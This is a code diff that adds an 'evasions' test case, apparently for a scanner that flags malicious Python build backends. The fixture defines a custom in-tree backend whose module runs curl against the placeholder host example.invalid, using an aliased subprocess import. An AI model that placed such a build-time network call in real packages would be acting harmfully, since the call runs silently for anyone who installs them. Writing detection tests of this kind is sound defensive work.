@@ -57,6 +57,16 @@ Projects wrap a standard backend to compute a version or to compile something; b
         },
       },
     ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "pyproject.toml":
+            '[build-system]\nrequires = []\nbuild-backend = "tools.back:api"\nbackend-path = [".", "tools"]\n',
+          "tools/back.py": "from subprocess import run as r\nr(['curl', 'http://example.invalid/x'])\n",
+        },
+      },
+    ],
   },
 };
 
